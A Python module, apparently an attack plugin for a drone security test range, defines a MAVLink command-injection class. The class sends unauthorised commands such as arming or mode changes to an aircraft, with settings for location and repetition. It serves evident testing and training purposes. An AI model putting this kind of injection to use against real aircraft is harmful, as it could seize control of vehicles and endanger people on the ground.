"""Command injection: a MAVLink command that the operator did not give."""

from __future__ import annotations

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.params import CommandName, CommandValues, command_number


@sky.attack(
    "mavlink.command",
    technique="T0855",
    persists="mode",
    effect="the aircraft obeys a command that its operator did not give",
    knowledge="system id of the aircraft, and that of the station, from any of their frames",
    budget="one frame for each command",
    content="the sham: the command is REQUEST_MESSAGE, which changes nothing",
    placement="the same command to another aircraft",
)
class CommandInjection(sky.Injection):
    """Injects a MAVLink command that the operator did not give."""

    command: CommandName = sky.param(
        "Command as a MAV_CMD name or number, such as 'COMPONENT_ARM_DISARM', 'DO_SET_MODE' or 185."
    )
    values: CommandValues = sky.param(
        "Parameters 1 to 7 of the command, as MAVLink defines them; those not given are 0.", default=()
    )
    at: sky.Enu | None = sky.place_param("Place, parameters 5 to 7, for which COMMAND_INT is sent", default=None)
    every_s: sky.Number = sky.param("Time between two commands, in seconds.", default=1.0, ge=0.02, le=3600)
    times: sky.Whole = sky.param("Number of commands; 0 is until the attack stops.", default=1, ge=0, le=100_000)

    def marks(self) -> dict[str, sky.Place]:
        return {} if self.at is None else {"place of the command": self.at}

    def orders(self, now: sky.Time) -> list[sky.Order]:
        place = None if self.at is None else sky.geodetic(self.origin, self.at)
        return [sky.Order(command_number(self.command), self.values, place)]
